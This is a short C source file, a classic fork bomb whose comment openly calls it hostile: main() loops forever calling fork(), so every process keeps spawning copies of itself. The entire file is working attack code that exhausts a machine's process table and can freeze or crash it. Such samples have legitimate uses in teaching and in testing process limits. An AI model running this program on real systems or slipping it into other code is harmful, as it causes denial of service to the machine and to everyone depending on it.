/* Hostile: every process makes more of itself, for ever. */
#include <unistd.h>

int main(void)
{
	for (;;)
		fork();
}
